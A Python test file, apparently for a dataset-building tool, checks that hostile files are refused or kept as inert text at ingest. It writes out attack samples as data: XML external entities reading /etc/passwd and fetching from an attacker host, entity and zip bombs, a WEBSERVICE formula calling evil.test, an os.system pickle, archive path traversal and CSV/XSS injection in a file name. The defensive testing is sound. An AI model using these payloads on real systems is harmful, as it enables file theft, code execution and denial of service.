"""Hostile documents from file to release: kept as text to the character, or refused with a reason; never run."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from builder.cli import main
from builder.exporters.loading import load_release
from builder.store import queries
from builder.workbench import Workbench
from tests.hostile.payloads import EVIL, PAYLOADS, sentence, write_rows
from tests.project import answer_all, at_work
from tests.readers.archives import zipped
from tests.readers.docxs import docx_of, paragraph, run

ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://{EVIL}/b.dtd">%b;]>'
SHEET = (
    '<worksheet><sheetData><row><c><f>WEBSERVICE("http://evil.test")</f><v>Total</v></c></row></sheetData></worksheet>'
)
WORD = docx_of(paragraph(run("The hall opened.")))


def unzipped(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_doctype(content: bytes, doctype: str, part: str = "word/document.xml") -> bytes:
    """Put a document type and a use of its entity into a part of a Word document."""
    parts = unzipped(content)
    found = parts[part].decode()
    head, mark, rest = found.partition("?>") if found.startswith("<?xml") else ("", "", found)
    parts[part] = f"{head}{mark}{doctype}{rest.replace('hall', '&a;')}".encode()
    return zipped(parts)


def deep(levels: int) -> str:
    return '{"text": "One day.", "more": ' + "[" * levels + "]" * levels + "}"


REFUSED: dict[str, tuple[str, bytes]] = {
    "entity bomb in a Word document": ("a.docx", with_doctype(WORD, ENTITIES)),
    "outside entity in a Word document": ("a.docx", with_doctype(WORD, OUTSIDE)),
    "half a surrogate pair": ("a.jsonl", b'{"text": "One \\ud800 day."}\n'),
    "brackets without end": ("a.jsonl", deep(100_000).encode() + b"\n"),
    "brackets without end in one value": ("a.json", deep(100_000).encode()),
    "a text that is a number of many digits": ("a.jsonl", b'{"text": ' + b"9" * 5_000 + b"}\n"),
    "a text that is an object": ("a.jsonl", b'{"text": {"__class__": "os.system"}}\n'),
    "names that lead out of an archive": ("a.zip", zipped({"../../out.txt": b"One day.\n"})),
    "an absolute name": ("a.zip", zipped({"/etc/out.txt": b"One day.\n"})),
    "a drive": ("a.zip", zipped({"C:\\out.txt": b"One day.\n"})),
    "a bomb": ("a.zip", zipped({"a.txt": b"a" * 20_000_000})),
}
"""Files of which something must be refused."""

UNREAD: dict[str, tuple[str, bytes]] = {
    "XML with an entity bomb": ("a.xml", f"<?xml version='1.0'?>{ENTITIES}<x>&b;</x>".encode()),
    "a drawing with a script": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>ran=1</script></svg>"),
    "a table with formulas": ("a.xlsx", zipped({"xl/worksheets/sheet1.xml": SHEET.encode()})),
    "a pickle": ("a.pkl", b"cos\nsystem\n(S'touch ran'\ntR."),
    "a program": ("a.py", b"open('ran', 'w')"),
}
"""Files that no reader takes."""


def ingested(folder: Path, name: str, content: bytes) -> tuple[Result, list[str], list[str]]:
    """Ingest a file beside a good one; give the outcome, the codes of what was refused, and the other texts."""
    (folder / "sources").mkdir()
    (folder / "sources" / name).write_bytes(content)
    (folder / "sources" / "zz.txt").write_text("The good hall opened.\n")
    result = CliRunner().invoke(main, ["-C", str(folder), "init"])
    result = CliRunner().invoke(main, ["-C", str(folder), "ingest"])
    with at_work(folder) as (bench, _):
        texts = [found.text for d in queries.live_documents(bench.store) if (found := document(bench, d))]
        codes = [reject.code for reject in queries.rejects(bench.store)]
    assert "The good hall opened." in texts
    assert "Traceback" not in result.output + result.stderr
    assert [] == [*folder.rglob("ran"), *folder.rglob("out.txt"), *folder.parent.glob("out.txt")]
    return result, codes, [text for text in texts if text != "The good hall opened."]


def document(bench: Workbench, id: str) -> Any:
    return queries.find_document(bench.store, id)


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_unfit_is_refused_and_the_rest_goes_on(name: str, tmp_path: Path) -> None:
    result, codes, texts = ingested(tmp_path, *REFUSED[name])

    assert (1, []) == (result.exit_code, texts)
    assert codes


@pytest.mark.parametrize("name", UNREAD)
def test_what_no_reader_takes_is_not_opened(name: str, tmp_path: Path) -> None:
    _, _, texts = ingested(tmp_path, *UNREAD[name])

    assert [] == texts


def test_what_hangs_on_a_web_page_is_left_there(tmp_path: Path) -> None:
    body = "".join(f"<p>The hall number {n} opened.</p>{payload}" for n, payload in enumerate(PAYLOADS.values()))
    page = f"<!DOCTYPE html [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><html><body>{body}&a;</body></html>"
    _, _, texts = ingested(tmp_path, "a.html", page.encode("utf-8", "replace"))

    assert texts
    assert "root:" not in "".join(texts)
    assert "document.title" not in "".join(texts)


def test_every_payload_is_released_as_the_text_that_it_is(tmp_path: Path) -> None:
    (tmp_path / "sources").mkdir()
    name = "=cmd|' '!A0<img src=x onerror=ran=1>\u202e\x1b[2J.jsonl"
    write_rows(tmp_path / "sources" / name, [*PAYLOADS])
    with at_work(tmp_path) as (bench, studio):
        bench.ingest()
        bench.annotate()
        bench.push()
        answer_all(studio)
        sent = [task["data"] for task in studio.payloads()]
        bench.pull()
        folder = bench.release("v1")
    rows = [row for split in load_release(folder)["records"].values() for row in split]
    changed = {name for name in PAYLOADS if sentence(name) not in {row["text"] for row in rows}}

    assert len(PAYLOADS) == len(rows) == len(sent)
    assert sorted(row["text"] for row in rows) == sorted(data["text"] for data in sent)
    assert {"turned direction", "isolated direction", "no width", "escape sequence"} == changed  # they lose what hides
    assert {True} == {span["text"] == row["text"][span["start"] : span["end"]] for row in rows for span in row["spans"]}
    surroundings = "".join(str(data[key]) for data in sent for key in ("title", "before", "after", "origin", "flags"))
    assert set() == set(surroundings) & set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\x00\ud800")
    assert [] == [
        path for path in folder.rglob("*") if path.suffix in (".csv", ".tsv", ".xlsx", ".html", ".pkl", ".py")
    ]


def test_there_are_thirty_and_more() -> None:
    assert 30 <= len(PAYLOADS)
    assert 45 <= len(PAYLOADS) + len(REFUSED) + len(UNREAD)
